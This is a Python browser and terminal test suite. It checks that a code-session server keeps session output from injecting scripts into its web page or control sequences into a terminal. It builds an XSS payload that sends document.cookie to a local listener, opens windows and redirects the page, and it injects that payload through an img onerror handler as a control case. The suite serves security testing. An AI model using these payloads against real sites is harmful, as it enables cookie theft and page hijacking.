"""What a session prints, shows and names stays what it is: in the page, and in a terminal."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from playwright.async_api import Browser, Dialog, Page, expect

from tests.support.client import Client
from tests.support.commands import Commands
from tests.support.serving import Serving
from tests.support.session_page import SessionPage
from watchglass_server.escape_probes import find_escape_probes

pytestmark = [pytest.mark.slow, pytest.mark.timeout(180)]

MARKUP_PROBES = find_escape_probes(("markup",))
TERMINAL_PROBES = find_escape_probes(("terminal",))
SETTLE_MS = 1000
# Colours are the command's own; all else that is no text would be the session's.
COLOURS = re.compile(r"\x1b\[[0-9;]*m")
OWN_SEQUENCES = re.compile(r"\x1b\[\?2004[hl]|\x1b\[K|\r|\x1b\[[0-9;]*[mC]")
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, cache_dir: Path) -> Iterator[Serving]:
    folder = tmp_path_factory.mktemp("served")
    with Serving(folder, "--pool-min-size", "1", cache_dir=cache_dir) as serving:
        yield serving


def attack(name: str, port: object) -> str:
    """JavaScript that takes what it gets; without quotes, so that it fits in between any."""
    address = f"`http://127.0.0.1:{port}/`"
    attempts = (
        f"top.ESCAPED=(top.ESCAPED??[]).concat(`{name}`)",
        f"top.document.title=`taken by {name}`",
        f"new Image().src={address}+document.cookie",
        f"fetch({address},{{mode:`no-cors`}})",
        f"open({address})",
        f"alert(`{name}`)",
        f"top.location={address}",
        f"location={address}",
    )
    return ";".join(f"try{{{attempt}}}catch{{}}" for attempt in attempts)


@asynccontextmanager
async def listening() -> AsyncIterator[tuple[int, list[bytes]]]:
    """A port of the host, and what was said to it.

    A connection without a word does not count: Chromium opens one before it asks the policy
    whether a frame may go where it wants to.
    """
    heard: list[bytes] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.extend(filter(None, [await reader.read(1000)]))
        writer.close()

    async with await asyncio.start_server(hear, "127.0.0.1", 0) as server:
        yield server.sockets[0].getsockname()[1], heard


class Watched:
    """A page, and whatever happens in it that only a script can do."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.happened: list[str] = []
        page.on("dialog", self._dialog)
        page.on("popup", lambda popup: self.happened.append(f"a window: {popup.url}"))
        page.on("download", lambda load: self.happened.append(f"a download: {load.url}"))
        self._url = page.url

    async def _dialog(self, dialog: Dialog) -> None:
        self.happened.append("a dialog")
        await dialog.dismiss()

    async def taken(self) -> list[str]:
        """What shows that a script of the session reached the page."""
        escaped = await self.page.evaluate("window.ESCAPED ?? []")
        title = await self.page.title()
        left = [] if self.page.url.split("#")[0] == self._url.split("#")[0] else [self.page.url]
        return [*self.happened, *escaped, *left, *([title] if "taken" in title else [])]


async def test_no_markup_of_a_session_reaches_its_page(browser: Browser, served: Serving) -> None:
    async with listening() as (port, heard), Client(served.url, served.token) as client:
        person = await SessionPage.of(browser, served.address)
        session = await person.create()
        await client.join(session)
        watched = Watched(person.page)
        for probe in MARKUP_PROBES:
            given = {"ATTACK": attack(probe.name, port), "TCP_PORT": port}
            given_names = "".join(f"{name} = {value!r}\n" for name, value in given.items())
            await client.execute(session, given_names + probe.source)
        await expect(person.execution(len(MARKUP_PROBES))).to_be_attached()
        await person.page.wait_for_timeout(SETTLE_MS)
        assert await watched.taken() == []
        assert heard == []
        await person.context.close()


async def test_the_same_script_takes_a_page_that_lets_it_run(browser: Browser) -> None:
    async with listening() as (port, heard):
        page = await browser.new_page()
        watched = Watched(page)
        await page.set_content(f'<img src="x:" onerror="{attack("probe", port)}">')
        await page.wait_for_timeout(SETTLE_MS)
        assert "a dialog" in watched.happened
        assert heard
        await page.close()


async def test_no_sequence_of_a_session_reaches_a_pipe(
    served: Serving, tmp_path: Path, cache_dir: Path
) -> None:
    commands = Commands(tmp_path, cache_dir, DATA_DIR=str(served.data_dir))
    async with Client(served.url, served.token) as client:
        session = await client.create()
        await client.join(session)
        for probe in TERMINAL_PROBES:
            await client.execute(session, probe.source)
            seen = (await asyncio.to_thread(commands.run, "attach", session)).stdout
            assert not CONTROLS.search(COLOURS.sub("", seen)), (probe.name, seen)


async def test_no_sequence_of_a_session_reaches_a_terminal(
    served: Serving, tmp_path: Path, cache_dir: Path
) -> None:
    commands = Commands(tmp_path, cache_dir, DATA_DIR=str(served.data_dir))
    async with Client(served.url, served.token) as client:
        session = await client.create()
        await client.join(session)
        with commands.terminal("attach", session) as terminal:
            terminal.until("In [1]: ")
            for probe in TERMINAL_PROBES:
                await client.execute(session, probe.source)
            await client.execute(session, "print('the last ' + 'line')")
            await asyncio.to_thread(terminal.until, "the last line")
    # What the command draws its own line with, and nothing of the session's.
    assert not CONTROLS.search(OWN_SEQUENCES.sub("", terminal.screen)), terminal.screen


def test_there_are_probes_of_both_kinds() -> None:
    assert len(MARKUP_PROBES) >= 20
    assert len(TERMINAL_PROBES) >= 8
